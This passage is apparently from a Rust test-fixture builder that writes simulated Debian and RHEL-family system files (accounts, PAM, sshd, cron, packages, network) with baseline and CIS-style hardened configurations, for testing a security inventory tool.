                "/usr/games",
                nologin,
                Password::Locked,
            ),
            a(
                "ftp",
                14,
                50,
                "FTP User",
                "/var/ftp",
                nologin,
                Password::Locked,
            ),
            a(
                "nobody",
                65534,
                65534,
                "Kernel Overflow User",
                "/",
                nologin,
                Password::Locked,
            ),
            a(
                "dbus",
                81,
                81,
                "System message bus",
                "/",
                nologin,
                Password::Locked,
            ),
            a(
                "sshd",
                74,
                74,
                "Privilege-separated SSH",
                "/usr/share/empty.sshd",
                nologin,
                Password::Locked,
            ),
            a(
                "chrony",
                994,
                992,
                "",
                "/var/lib/chrony",
                nologin,
                Password::Locked,
            ),
            a(
                "polkitd",
                998,
                996,
                "User for polkitd",
                "/",
                nologin,
                Password::Locked,
            ),
        ];
        self.add_admin("quantri", "wheel", Password::Sha512);
        self.flush_accounts();
        self.flush_packages();
        self.write(
            "/etc/login.defs",
            login_defs(99999, 0, 7, "022", "SHA512").as_bytes(),
            0o644,
        );
        self.write("/etc/sudoers", RHEL_SUDOERS.as_bytes(), 0o440);
        self.mkdir("/etc/sudoers.d", 0o750);
        let dropins = self.has_sshd_dropins();
        self.write(
            "/etc/ssh/sshd_config",
            rhel_sshd_config(dropins).as_bytes(),
            0o600,
        );
        if dropins {
            self.write("/etc/ssh/sshd_config.d/50-redhat.conf", b"# This system is following system-wide crypto policy.\nInclude /etc/crypto-policies/back-ends/opensshserver.config\n\nSyslogFacility AUTHPRIV\n\nChallengeResponseAuthentication no\n\nGSSAPIAuthentication yes\nGSSAPICleanupCredentials no\n\nUsePAM yes\n\nX11Forwarding yes\n\nPrintMotd no\n", 0o600);
            self.write("/etc/crypto-policies/back-ends/opensshserver.config", b"Ciphers aes256-gcm@openssh.com,chacha20-poly1305@openssh.com,aes256-ctr,aes128-gcm@openssh.com,aes128-ctr\nMACs hmac-sha2-256-etm@openssh.com,hmac-sha1-etm@openssh.com,umac-128-etm@openssh.com,hmac-sha2-512-etm@openssh.com,hmac-sha2-256,hmac-sha1,umac-128@openssh.com,hmac-sha2-512\nGSSAPIKexAlgorithms gss-curve25519-sha256-,gss-nistp256-sha256-,gss-group14-sha256-,gss-group16-sha512-\nKexAlgorithms curve25519-sha256,curve25519-sha256@libssh.org,ecdh-sha2-nistp256,ecdh-sha2-nistp384,ecdh-sha2-nistp521,diffie-hellman-group-exchange-sha256,diffie-hellman-group14-sha256,diffie-hellman-group16-sha512,diffie-hellman-group18-sha512\n", 0o644);
        }
        self.write("/etc/crontab", b"SHELL=/bin/bash\nPATH=/sbin:/bin:/usr/sbin:/usr/bin\nMAILTO=root\n\n# Example of job definition:\n# .---------------- minute (0 - 59)\n# |  .------------- hour (0 - 23)\n# |  |  .---------- day of month (1 - 31)\n# |  |  |  .------- month (1 - 12) OR jan,feb,mar,apr ...\n# |  |  |  |  .---- day of week (0 - 6) (Sunday=0 or 7) OR sun,mon,tue,wed,thu,fri,sat\n# |  |  |  |  |\n# *  *  *  *  * user-name  command to be executed\n", 0o644);
        self.write("/etc/cron.d/0hourly", b"# Run the hourly jobs\nSHELL=/bin/bash\nPATH=/sbin:/bin:/usr/sbin:/usr/bin\nMAILTO=root\n01 * * * * root run-parts /etc/cron.hourly\n", 0o644);
        self.write(
            "/etc/cron.hourly/0anacron",
            b"#!/bin/sh\n/usr/sbin/anacron -s\n",
            0o755,
        );
        self.mkdir("/var/spool/cron", 0o700);
        self.write("/etc/fstab", b"\n#\n# /etc/fstab\n# Created by anaconda\n#\n/dev/mapper/rl-root     /                       xfs     defaults        0 0\nUUID=2c3a4b5d-6e7f-4a8b-9c0d-1e2f3a4b5c6d /boot                   xfs     defaults        0 0\n/dev/mapper/rl-swap     none                    swap    defaults        0 0\n", 0o644);
        self.write(
            "/etc/profile.d/lang.sh",
            b"# /etc/profile.d/lang.sh - exports LANG\n",
            0o644,
        );
        self.write("/usr/lib/sysctl.d/50-default.conf", b"kernel.sysrq = 16\nkernel.core_uses_pid = 1\nnet.ipv4.conf.default.rp_filter = 2\nfs.protected_hardlinks = 1\nfs.protected_symlinks = 1\n", 0o644);
        self.write("/etc/sysctl.conf", b"# sysctl settings are defined through files in\n# /usr/lib/sysctl.d/, /run/sysctl.d/, and /etc/sysctl.d/.\n", 0o644);
        let auth = "auth        required      pam_env.so\nauth        sufficient    pam_unix.so try_first_pass nullok\nauth        required      pam_deny.so\n\naccount     required      pam_unix.so\n\npassword    requisite     pam_pwquality.so try_first_pass local_users_only\npassword    sufficient    pam_unix.so sha512 shadow nullok try_first_pass use_authtok\npassword    required      pam_deny.so\n\nsession     optional      pam_keyinit.so revoke\nsession     required      pam_limits.so\n-session    optional      pam_systemd.so\nsession     required      pam_unix.so\n";
        self.write("/etc/pam.d/system-auth", auth.as_bytes(), 0o644);
        self.write("/etc/pam.d/password-auth", auth.as_bytes(), 0o644);
        self.write("/etc/pam.d/sshd", b"#%PAM-1.0\nauth       substack     password-auth\nauth       include      postlogin\naccount    required     pam_sepermit.so\naccount    required     pam_nologin.so\naccount    include      password-auth\npassword   include      password-auth\nsession    required     pam_loginuid.so\nsession    include      password-auth\n", 0o644);
        self.write("/etc/pam.d/su", b"#%PAM-1.0\nauth\t\tsufficient\tpam_rootok.so\n#auth\t\trequired\tpam_wheel.so use_uid\nauth\t\tsubstack\tsystem-auth\naccount\t\tinclude\t\tsystem-auth\npassword\tinclude\t\tsystem-auth\nsession\t\tinclude\t\tsystem-auth\n", 0o644);
        self.unit("sshd.service", "[Unit]\nDescription=OpenSSH server daemon\nAfter=network.target sshd-keygen.target\n\n[Service]\nType=notify\nEnvironmentFile=-/etc/sysconfig/sshd\nExecStart=/usr/sbin/sshd -D $OPTIONS\nExecReload=/bin/kill -HUP $MAINPID\nKillMode=process\nRestart=on-failure\n\n[Install]\nWantedBy=multi-user.target\n");
        self.unit("crond.service", "[Unit]\nDescription=Command Scheduler\n\n[Service]\nEnvironmentFile=/etc/sysconfig/crond\nExecStart=/usr/sbin/crond -n $CRONDARGS\n\n[Install]\nWantedBy=multi-user.target\n");
        self.unit("rsyslog.service", "[Unit]\nDescription=System Logging Service\n\n[Service]\nType=notify\nExecStart=/usr/sbin/rsyslogd -n $SYSLOGD_OPTIONS\n\n[Install]\nWantedBy=multi-user.target\n");
        self.unit("getty@.service", "[Unit]\nDescription=Getty on %I\n\n[Service]\nExecStart=-/sbin/agetty -o '-p -- \\\\u' --noclear %I $TERM\n\n[Install]\nWantedBy=getty.target\n");
        self.unit("systemd-journald.service", "[Unit]\nDescription=Journal Service\n\n[Service]\nExecStart=/usr/lib/systemd/systemd-journald\n");
        for s in ["sshd.service", "crond.service", "rsyslog.service"] {
            self.wants("multi-user.target", s);
        }
        self.wants("getty.target", "getty@tty1.service");
        self.write_kernels();
        self.base_secure_modes();
        for p in ["/etc/shadow", "/etc/gshadow"] {
            std::fs::set_permissions(self.path(p), std::fs::Permissions::from_mode(0o000))
                .expect("chmod");
        }
    }

    fn has_sshd_dropins(&self) -> bool {
        match self.distro {
            Distro::Debian => self.version != "10",
            Distro::Ubuntu => self.version != "18.04",
            Distro::Rocky => true,
            Distro::CentOs => false,
        }
    }

    fn base_secure_modes(&self) {
        for (p, m) in [
            ("/etc/passwd", 0o644),
            ("/etc/group", 0o644),
            ("/etc/shadow", 0o640),
            ("/etc/gshadow", 0o640),
        ] {
            if self.path(p).exists() {
                std::fs::set_permissions(self.path(p), std::fs::Permissions::from_mode(m))
                    .expect("chmod");
            }
        }
        if self.distro.is_deb() {
            self.own("/etc/shadow", 0, 42);
            self.own("/etc/gshadow", 0, 42);
            self.own("/var/spool/cron/crontabs", 0, 101);
        }
    }

    fn write_kernels(&self) {
        let mut releases: Vec<String> = Vec::new();
        for d in &self.debs {
            if let Some(r) = d.name.strip_prefix("linux-image-") {
                if r.starts_with(|c: char| c.is_ascii_digit()) {
                    releases.push(r.to_string());
                }
            }
        }
        for p in &self.rpms {
            if p.name == "kernel-core"
                || (p.name == "kernel" && !self.rpms.iter().any(|k| k.name == "kernel-core"))
            {
                releases.push(format!("{}-{}.{}", p.version, p.release, p.arch));
            }
        }
        for r in releases {
            self.write(
                &format!("/boot/vmlinuz-{r}"),
                b"fixture kernel image\n",
                0o644,
            );
            self.write(&format!("/boot/config-{r}"), b"CONFIG_X86_64=y\n", 0o644);
            let initrd = if self.distro.is_deb() {
                format!("/boot/initrd.img-{r}")
            } else {
                format!("/boot/initramfs-{r}.img")
            };
            self.write(&initrd, b"fixture initrd\n", 0o600);
        }
        if !self.distro.is_deb() {
            let id = machine_id(&format!("{:?}-{}", self.distro, self.version));
            self.write(
                &format!("/boot/vmlinuz-0-rescue-{id}"),
                b"rescue kernel\n",
                0o755,
            );
        }
    }

    // -------------------------------------------------------- systemd units

    /// Writes a unit file into the vendor unit folder.
    pub fn unit_file(self, unit: &str, contents: &str) -> Self {
        self.unit(unit, contents);
        self
    }

    fn unit(&self, unit: &str, contents: &str) {
        self.write(
            &format!("{}/{unit}", self.unit_dir),
            contents.as_bytes(),
            0o644,
        );
    }

    fn wants(&self, target: &str, unit: &str) {
        let template = match unit.split_once('@') {
            Some((p, rest)) => format!(
                "{p}@.{}",
                rest.rsplit_once('.').map(|(_, s)| s).unwrap_or("service")
            ),
            None => unit.to_string(),
        };
        self.link(
            &format!("/etc/systemd/system/{target}.wants/{unit}"),
            &format!("{}/{template}", self.unit_dir),
        );
    }

    fn unit_name(name: &str) -> String {
        if [
            ".service", ".socket", ".timer", ".mount", ".target", ".path",
        ]
        .iter()
        .any(|s| name.ends_with(s))
        {
            name.to_string()
        } else {
            format!("{name}.service")
        }
    }

    /// Enables a unit (`ssh`, `telnet.socket`, `dnf-automatic.timer`): writes a
    /// unit file if none exists and links it from the target's `.wants`.
    pub fn service_enabled(self, name: &str) -> Self {
        self.enable(name);
        self
    }

    fn enable(&self, name: &str) {
        let unit = Self::unit_name(name);
        let (target, section) = if unit.ends_with(".socket") {
            ("sockets.target", "[Socket]\nListenStream=23\nAccept=yes\n")
        } else if unit.ends_with(".timer") {
            (
                "timers.target",
                "[Timer]\nOnCalendar=daily\nPersistent=true\n",
            )
        } else if unit.ends_with(".mount") {
            (
                "local-fs.target",
                "[Mount]\nWhat=tmpfs\nWhere=/tmp\nType=tmpfs\n",
            )
        } else {
            ("multi-user.target", "")
        };
        if !self.path(&format!("{}/{unit}", self.unit_dir)).exists() && !unit.contains('@') {
            let base = unit.rsplit_once('.').map(|(b, _)| b).unwrap_or(&unit);
            let body = if section.is_empty() {
                format!("[Service]\nExecStart=/usr/sbin/{base}\n")
            } else {
                section.to_string()
            };
            self.unit(
                &unit,
                &format!("[Unit]\nDescription={base}\n\n{body}\n[Install]\nWantedBy={target}\n"),
            );
        }
        self.wants(target, &unit);
    }

    /// Removes every enablement link of a unit (unit file kept).
    pub fn service_disabled(self, name: &str) -> Self {
        self.disable(name);
        self
    }

    fn disable(&self, name: &str) {
        let unit = Self::unit_name(name);
        if let Ok(rd) = std::fs::read_dir(self.path("/etc/systemd/system")) {
            for e in rd.flatten() {
                let p = e.path().join(&unit);
                if std::fs::symlink_metadata(&p).is_ok() {
                    let _ = std::fs::remove_file(p);
                }
            }
        }
    }

    /// Masks a unit (symlink to /dev/null in /etc/systemd/system).
    pub fn service_masked(self, name: &str) -> Self {
        let unit = Self::unit_name(name);
        self.disable(name);
        self.link(&format!("/etc/systemd/system/{unit}"), "/dev/null");
        self
    }

    // ------------------------------------------------------------- accounts

    fn add_admin(&mut self, name: &str, group: &str, pw: Password) {
        self.groups.push(g(name, 1000, &[]));
        let mut acc = a(
            name,
            1000,
            1000,
            "Quan tri he thong",
            &format!("/home/{name}"),
            "/bin/bash",
            pw,
        );
        acc.ageing = Some((19_800, 1, 90, 7, Some(30)));
        self.accounts.push(acc);
        if let Some(gr) = self.groups.iter_mut().find(|x| x.name == group) {
            gr.members.push(name.to_string());
        }
        self.mkdir(&format!("/home/{name}"), 0o750);
    }

    /// Adds (or replaces) an account with its own group of the same gid when
    /// none exists. Ageing follows the fixture's default policy.
    pub fn account(
        mut self,
        name: &str,
        uid: u32,
        gid: u32,
        shell: &str,
        password: Password,
    ) -> Self {
        self.accounts.retain(|x| x.name != name);
        let home = if uid == 0 {
            "/root".to_string()
        } else {
            format!("/home/{name}")
        };
        let mut acc = a(name, uid, gid, name, &home, shell, password);
        acc.ageing = self.default_ageing;
        self.accounts.push(acc);
        if !self.groups.iter().any(|x| x.gid == gid) {
            self.groups.push(g(name, gid, &[]));
        }
        self.flush_accounts();
        self
    }

    /// Replaces an account's password field.
    pub fn password(mut self, name: &str, password: Password) -> Self {
        for x in self.accounts.iter_mut().filter(|x| x.name == name) {
            x.password = password;
        }
        self.flush_accounts();
        self
    }

    /// Sets the shadow ageing of an account: (last change day, min, max, warn, inactive).
    pub fn ageing(mut self, name: &str, ageing: Option<(i64, i64, i64, i64, Option<i64>)>) -> Self {
        for x in self.accounts.iter_mut().filter(|x| x.name == name) {
            x.ageing = ageing;
        }
        self.flush_accounts();
        self
    }

    /// Adds a group (or replaces one of the same name).
    pub fn group(mut self, name: &str, gid: u32, members: &[&str]) -> Self {
        self.groups.retain(|x| x.name != name);
        self.groups.push(g(name, gid, members));
        self.flush_accounts();
        self
    }

    /// Adds a user to a group's member list.
    pub fn add_to_group(mut self, user: &str, group: &str) -> Self {
        if let Some(gr) = self.groups.iter_mut().find(|x| x.name == group) {
            if !gr.members.iter().any(|m| m == user) {
                gr.members.push(user.to_string());
            }
        }
        self.flush_accounts();
        self
    }

    pub fn accounts(&self) -> &[AccountSpec] {
        &self.accounts
    }

    fn flush_accounts(&self) {
        let mut passwd = String::new();
        let mut shadow = String::new();
        for x in &self.accounts {
            passwd.push_str(&format!(
                "{}:x:{}:{}:{}:{}:{}\n",
                x.name, x.uid, x.gid, x.gecos, x.home, x.shell
            ));
            let pw = if x.password == Password::Locked && x.uid != 0 && x.uid < 1000 {
                "*".to_string()
            } else {
                fake_hash(x.password)
            };
            let ageing = match x.ageing {
                Some((lc, min, max, warn, inactive)) => {
                    format!(
                        "{lc}:{min}:{max}:{warn}:{}::",
                        inactive.map(|i| i.to_string()).unwrap_or_default()
                    )
                }
                None => "19800:0:99999:7:::".into(),
            };
            shadow.push_str(&format!("{}:{}:{}\n", x.name, pw, ageing));
        }
        let mut group = String::new();
        let mut gshadow = String::new();
        for x in &self.groups {
            group.push_str(&format!("{}:x:{}:{}\n", x.name, x.gid, x.members.join(",")));
            gshadow.push_str(&format!("{}:!::{}\n", x.name, x.members.join(",")));
        }
        let (sm, om) = self.secret_modes();
        self.write(
            "/etc/passwd",
            passwd.as_bytes(),
            self.mode_of("/etc/passwd").unwrap_or(0o644),
        );
        self.write(
            "/etc/group",
            group.as_bytes(),
            self.mode_of("/etc/group").unwrap_or(0o644),
        );
        self.write(
            "/etc/shadow",
            shadow.as_bytes(),
            self.mode_of("/etc/shadow").unwrap_or(sm),
        );
        self.write(
            "/etc/gshadow",
            gshadow.as_bytes(),
            self.mode_of("/etc/gshadow").unwrap_or(om),
        );
    }

    fn secret_modes(&self) -> (u32, u32) {
        if self.distro.is_deb() {
            (0o640, 0o640)
        } else {
            (0o000, 0o000)
        }
    }

    fn mode_of(&self, p: &str) -> Option<u32> {
        std::fs::metadata(self.path(p))
            .ok()
            .map(|m| m.permissions().mode() & 0o7777)
    }

    // ------------------------------------------------------------- packages

    /// Adds (or replaces) a package. `source` is the source package name
    /// (empty: same as the package). For rpm roots the version is
    /// `[epoch:]version-release` and the arch x86_64.
    pub fn package(mut self, name: &str, version: &str, source: &str) -> Self {
        self.add_package(name, version, source);
        self
    }

    fn add_package(&mut self, name: &str, version: &str, source: &str) {
        if self.distro.is_deb() {
            self.debs.retain(|d| d.name != name);
            self.debs.push(DebPkg {
                name: name.into(),
                version: version.into(),
                arch: "amd64".into(),
                source: source.into(),
            });
        } else {
            self.rpms.retain(|p| p.name != name);
            let (epoch, rest) = match version.split_once(':') {
                Some((e, r)) => (e.parse().ok(), r),
                None => (None, version),
            };
            let (v, r) = rest.rsplit_once('-').unwrap_or((rest, "1"));
            let src = if source.is_empty() { name } else { source };
            self.rpms.push(RpmPackage {
                name: name.into(),
                epoch,
                version: v.into(),
                release: r.into(),
                arch: "x86_64".into(),
                source_rpm: format!("{src}-{v}-{r}.src.rpm"),
                vendor: if self.distro == Distro::Rocky {
                    "Rocky Enterprise Software Foundation".into()
                } else {
                    "CentOS".into()
                },
            });
        }
        self.flush_packages();
    }

    /// Removes a package.
    pub fn remove_package(mut self, name: &str) -> Self {
        self.debs.retain(|d| d.name != name);
        self.rpms.retain(|p| p.name != name);
        self.flush_packages();
        self
    }

    /// Switches how the rpm database is stored.
    pub fn rpmdb_format(mut self, format: RpmDbFormat) -> Self {
        self.rpmdb_format = format;
        self.flush_packages();
        self
    }

    /// Names of the installed packages.
    pub fn package_names(&self) -> Vec<String> {
        let mut v: Vec<String> = self
            .debs
            .iter()
            .map(|d| d.name.clone())
            .chain(self.rpms.iter().map(|p| p.name.clone()))
            .collect();
        v.sort();
        v
    }

    fn flush_packages(&self) {
        if self.distro.is_deb() {
            let mut debs = self.debs.clone();
            debs.sort_by(|a, b| a.name.cmp(&b.name));
            let mut s = String::new();
            for d in &debs {
                s.push_str(&format!("Package: {}\nStatus: install ok installed\nPriority: optional\nSection: misc\nInstalled-Size: 1024\nMaintainer: Debian Maintainers <debian-devel@lists.debian.org>\nArchitecture: {}\n", d.name, d.arch));
                if !d.source.is_empty() {
                    s.push_str(&format!("Source: {}\n", d.source));
                }
                s.push_str(&format!(
                    "Version: {}\nDescription: {} package\n This is the {} package of the fixture.\n .\n It has a multi-line description.\n\n",
                    d.version, d.name, d.name
                ));
                self.write(
                    &format!("/var/lib/dpkg/info/{}.list", d.name),
                    format!("/usr/share/doc/{}\n", d.name).as_bytes(),
                    0o644,
                );
            }
            // A removed package whose configuration remains: not installed.
            s.push_str("Package: nano\nStatus: deinstall ok config-files\nPriority: important\nArchitecture: amd64\nVersion: 7.2-1\nConffiles:\n /etc/nanorc 2c4a1d2b3c4d5e6f7a8b9c0d1e2f3a4b\nDescription: small, friendly text editor\n\n");
            self.write("/var/lib/dpkg/status", s.as_bytes(), 0o644);
        } else {
            self.mkdir("/var/lib/rpm", 0o755);
            match self.rpmdb_format {
                RpmDbFormat::Sqlite => {
                    let _ = std::fs::remove_file(self.path("/var/lib/rpm/Packages"));
                    let mut all = self.rpms.clone();
                    all.push(RpmPackage {
                        name: "gpg-pubkey".into(),
                        epoch: None,
                        version: "350d275d".into(),
                        release: "6279464b".into(),
                        arch: String::new(),
                        source_rpm: String::new(),
                        vendor: String::new(),
                    });
                    rpmdb::write_sqlite_rpmdb(&self.path("/var/lib/rpm/rpmdb.sqlite"), &all)
                        .expect("write rpmdb");
                }
                RpmDbFormat::BerkeleyDb => {
                    let _ = std::fs::remove_file(self.path("/var/lib/rpm/rpmdb.sqlite"));
                    rpmdb::write_bdb_placeholder(&self.path("/var/lib/rpm/Packages"))
                        .expect("write bdb");
                    self.write("/var/lib/rpm/Name", b"", 0o644);
                }
            }
        }
    }

    // ------------------------------------------------------- configuration

    /// Replaces /etc/ssh/sshd_config (mode kept, 0600 when new).
    pub fn sshd_config(self, text: &str) -> Self {
        let mode = self.mode_of("/etc/ssh/sshd_config").unwrap_or(0o600);
        self.write("/etc/ssh/sshd_config", text.as_bytes(), mode);
        self
    }

    /// Adds an sshd drop-in (/etc/ssh/sshd_config.d/NAME).
    pub fn sshd_dropin(self, name: &str, text: &str) -> Self {
        self.write(
            &format!("/etc/ssh/sshd_config.d/{name}"),
            text.as_bytes(),
            0o600,
        );
        self
    }

    /// Adds a sysctl.d file (/etc/sysctl.d/NAME).
    pub fn sysctl(self, name: &str, text: &str) -> Self {
        self.write(&format!("/etc/sysctl.d/{name}"), text.as_bytes(), 0o644);
        self
    }

    /// Writes ClamAV signature databases (main.cvd, daily.cld, bytecode.cvd)
    /// whose headers and mtimes carry `date` (`YYYY-MM-DD`); main is older.
    pub fn clamav_signatures(self, date: &str) -> Self {
        let (y, m, d) = parse_date(date);
        const MONTHS: [&str; 12] = [
            "Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec",
        ];
        let header = |day: &str, version: u32, sigs: u32| {
            let mut h =
                format!("ClamAV-VDB:{day} 08-21 +0000:{version}:{sigs}:90:X:X:fixture:1700000000")
                    .into_bytes();
            h.resize(512, b' ');
            h.extend_from_slice(b"\x1f\x8b fixture signature data");
            h
        };
        let today = format!("{d:02} {} {y}", MONTHS[(m - 1) as usize]);
        self.mkdir("/var/lib/clamav", 0o755);
        self.write(
            "/var/lib/clamav/main.cvd",
            &header("16 Sep 2021", 62, 6_647_427),
            0o644,
        );
        self.set_mtime("/var/lib/clamav/main.cvd", "2021-09-16");
        self.write(
            "/var/lib/clamav/daily.cld",
            &header(&today, 27_370, 2_066_547),
            0o644,
        );
        self.set_mtime("/var/lib/clamav/daily.cld", date);
        self.write(
            "/var/lib/clamav/bytecode.cvd",
            &header("29 Feb 2024", 335, 86),
            0o644,
        );
        self.set_mtime("/var/lib/clamav/bytecode.cvd", "2024-02-29");
        self
    }

    /// Sets the hostname (/etc/hostname).
    pub fn hostname(self, name: &str) -> Self {
        self.write("/etc/hostname", format!("{name}\n").as_bytes(), 0o644);
        self
    }

    // ---------------------------------------------------- network, installation

    /// Leaves the installer's trace dated `date` (`YYYY-MM-DD`): Debian and
    /// Ubuntu `/var/log/installer/syslog`, the RHEL family `/root/anaconda-ks.cfg`.
    pub fn installed_on(self, date: &str) -> Self {
        let path = if self.distro.is_deb() {
            "/var/log/installer/syslog"
        } else {
            "/root/anaconda-ks.cfg"
        };
        let text = if self.distro.is_deb() {
            "Jan  1 00:00:00 debian-installer: main-menu: INFO: Menu item 'finish-install' selected\n"
        } else {
            "# Generated by Anaconda\n%packages\n@^minimal-environment\n%end\n"
        };
        self.write(path, text.as_bytes(), 0o600);
        self.set_mtime(path, date);
        self
    }

    /// A static wired address with a default gateway: ifupdown's
    /// `/etc/network/interfaces` on Debian/Ubuntu, an `ifcfg-IFACE` file on
    /// the RHEL family. `cidr` like `192.168.1.20/24`.
    pub fn static_network(self, iface: &str, cidr: &str, gateway: &str) -> Self {
        let (addr, prefix) = cidr.split_once('/').unwrap_or((cidr, "24"));
        if self.distro.is_deb() {
            let text = format!("# The loopback network interface\nauto lo\niface lo inet loopback\n\n# The primary network interface\nauto {iface}\niface {iface} inet static\n    address {addr}/{prefix}\n    gateway {gateway}\n");
            self.write("/etc/network/interfaces", text.as_bytes(), 0o644);
        } else {
            let text = format!("TYPE=Ethernet\nBOOTPROTO=none\nNAME={iface}\nDEVICE={iface}\nONBOOT=yes\nIPADDR={addr}\nPREFIX={prefix}\nGATEWAY={gateway}\n");
            self.write(
                &format!("/etc/sysconfig/network-scripts/ifcfg-{iface}"),
                text.as_bytes(),
                0o644,
            );
        }
        self
    }

    /// Only the loopback interface configured (ifupdown or ifcfg): a stand-alone host.
    pub fn loopback_only(self) -> Self {
        if self.distro.is_deb() {
            self.write(
                "/etc/network/interfaces",
                b"auto lo\niface lo inet loopback\n",
                0o644,
            );
        } else {
            self.write(
                "/etc/sysconfig/network-scripts/ifcfg-lo",
                b"DEVICE=lo\nIPADDR=127.0.0.1\nNETMASK=255.0.0.0\nONBOOT=yes\nNAME=loopback\n",
                0o644,
            );
        }
        self
    }

    /// A saved NetworkManager Wi-Fi profile for `ssid`. Its passphrase is
    /// made at run time (never a committed secret); tests check it never
    /// reaches the inventory.
    pub fn wifi_profile(self, ssid: &str) -> Self {
        let psk: String = format!("{:x}", std::process::id() as u64 * 2_654_435_761 + 0x5eed);
        let text = format!("[connection]\nid={ssid}\nuuid=3f2b6c1e-8d4a-4c5e-9a7b-1d2e3f4a5b6c\ntype=wifi\n\n[wifi]\nmode=infrastructure\nssid={ssid}\n\n[wifi-security]\nkey-mgmt=wpa-psk\npsk=wifi-{psk}\n\n[ipv4]\nmethod=auto\n\n[ipv6]\nmethod=auto\n");
        let name: String = ssid.chars().filter(|c| c.is_alphanumeric()).collect();
        self.write(
            &format!("/etc/NetworkManager/system-connections/{name}.nmconnection"),
            text.as_bytes(),
            0o600,
        );
        self
    }

    // ---------------------------------------------------- clean hardening

    fn harden_common(mut self) -> Self {
        self.default_ageing = Some((19_800, 1, 90, 7, Some(30)));
        self.write(
            "/etc/login.defs",
            login_defs(
                90,
                1,
                7,
                "027",
                if self.distro.is_deb() {
                    "YESCRYPT"
                } else {
                    "SHA512"
                },
            )
            .as_bytes(),
            0o644,
        );
        self.write(
            "/etc/security/pwquality.conf",
            b"# Configuration for systemwide password quality limits\nminlen = 14\ndcredit = -1\nucredit = -1\nlcredit = -1\nocredit = -1\nminclass = 4\nmaxrepeat = 3\nenforce_for_root\n",
            0o644,
        );
        self.write(
            "/etc/security/faillock.conf",
            b"# Configuration for locking the user after multiple failed authentication attempts.\ndeny = 5\nunlock_time = 900\nfail_interval = 900\n",
            0o644,
        );
        self.write(
            "/etc/sysctl.d/99-hardening.conf",
            HARDENING_SYSCTL.as_bytes(),
            0o644,
        );
        self.write(
            "/etc/modprobe.d/cis-hardening.conf",
            modprobe_hardening().as_bytes(),
            0o644,
        );
        let mut fstab =
            String::from_utf8(std::fs::read(self.path("/etc/fstab")).unwrap_or_default())
                .unwrap_or_default();
        fstab.push_str("tmpfs /tmp tmpfs defaults,rw,nodev,nosuid,noexec,size=2G 0 0\ntmpfs /dev/shm tmpfs defaults,nodev,nosuid,noexec 0 0\n/dev/mapper/vg0-varlog /var/log ext4 defaults,nodev,nosuid,noexec 0 2\n");
        self.write("/etc/fstab", fstab.as_bytes(), 0o644);
        // Secure modes
        for (p, m) in [
            ("/etc/crontab", 0o600),
            ("/etc/ssh/sshd_config", 0o600),
            ("/etc/cron.d", 0o700),
            ("/etc/cron.hourly", 0o700),
            ("/etc/cron.daily", 0o700),
            ("/etc/cron.weekly", 0o700),
            ("/etc/cron.monthly", 0o700),
        ] {
            let _ = std::fs::set_permissions(self.path(p), std::fs::Permissions::from_mode(m));
        }
        // Only root may use cron; idle shells log out; new accounts expire when unused.
        self.write("/etc/cron.allow", b"root\n", 0o600);
        self.write(
            "/etc/profile.d/tmout.sh",
            b"# Log out idle shells after 15 minutes\nreadonly TMOUT=900\nexport TMOUT\n",
            0o644,
        );
        self.write(
            "/etc/default/useradd",
            b"# Default values for useradd(8)\nSHELL=/bin/bash\nINACTIVE=30\n",
            0o644,
        );
        self.write("/etc/logrotate.conf", b"# see \"man logrotate\" for details\nweekly\nrotate 12\ncreate\ninclude /etc/logrotate.d\n", 0o644);
        self.write("/etc/pam.d/su", b"auth       sufficient pam_rootok.so\nauth       required   pam_wheel.so use_uid group=sudo\nsession    required   pam_env.so readenv=1\n", 0o644);
        // GRUB superuser with a password (the hash is made at run time).
        let grub_dir = if self.distro.is_deb() {
            "/boot/grub"
        } else {
            "/boot/grub2"
        };
        self.write(
            &format!("{grub_dir}/grub.cfg"),
            format!(
                "### BEGIN /etc/grub.d/01_users ###\nset superusers=\"grubadmin\"\npassword_pbkdf2 grubadmin grub.pbkdf2.sha512.10000.{}.{}\n### END /etc/grub.d/01_users ###\nmenuentry 'Linux' --unrestricted {{\n  linux /vmlinuz ro quiet\n}}\n",
                random_chars(64),
                random_chars(128)
            )
            .as_bytes(),
            0o600,
        );
        for u in ["auditd.service", "rsyslog.service"] {
            self.unit(u, &format!("[Unit]\nDescription={u}\n\n[Service]\nExecStart=/usr/sbin/{}\n\n[Install]\nWantedBy=multi-user.target\n", u.trim_end_matches(".service").trim_end_matches('d')));
            self.enable(u);
        }
        self.write("/etc/audit/auditd.conf", b"log_file = /var/log/audit/audit.log\nlog_format = ENRICHED\nmax_log_file = 32\nnum_logs = 5\nmax_log_file_action = keep_logs\nspace_left_action = email\nadmin_space_left_action = single\n", 0o640);
        self.write("/etc/audit/rules.d/50-identity.rules", b"-w /etc/group -p wa -k identity\n-w /etc/passwd -p wa -k identity\n-w /etc/shadow -p wa -k identity\n-w /etc/sudoers -p wa -k scope\n", 0o640);
        self.write(
            "/etc/issue.net",
            "Truy cập trái phép bị nghiêm cấm. Authorized access only.\n".as_bytes(),
            0o644,
        );
        self.write(
            "/etc/systemd/journald.conf",
            b"[Journal]\nStorage=persistent\nCompress=yes\n",
            0o644,
        );
        self
    }

    fn harden_sshd(&self, dropin: bool) {
        let text = "# Hardening by the IT office\nPermitRootLogin no\nPasswordAuthentication no\nKbdInteractiveAuthentication no\nPermitEmptyPasswords no\nX11Forwarding no\nMaxAuthTries 4\nLoginGraceTime 60\nClientAliveInterval 300\nClientAliveCountMax 3\nAllowTcpForwarding no\nBanner /etc/issue.net\nLogLevel VERBOSE\nAllowGroups sudo wheel\nCiphers aes256-gcm@openssh.com,chacha20-poly1305@openssh.com,aes256-ctr,aes128-gcm@openssh.com,aes128-ctr\nMACs hmac-sha2-512-etm@openssh.com,hmac-sha2-256-etm@openssh.com\n";
        if dropin {
            self.write(
                "/etc/ssh/sshd_config.d/10-hardening.conf",
                text.as_bytes(),
                0o600,
            );
        } else {
            let cur = String::from_utf8(
                std::fs::read(self.path("/etc/ssh/sshd_config")).unwrap_or_default(),
            )
            .unwrap_or_default();
            self.write(
                "/etc/ssh/sshd_config",
                format!("{text}\n{cur}").as_bytes(),
                0o600,
            );
        }
    }

    fn deb_clean(mut self, hardening: &[Deb]) -> Self {
        for (n, v, _, s) in hardening {
            self.debs.push(deb(&(n, v, "amd64", s)));
        }
        self.debs.push(deb(&("rkhunter", "1.4.6-11", "all", "")));
        self.flush_packages();
        let f = self.harden_common();
        f.harden_sshd(true);
        // PAM: pwquality and faillock.
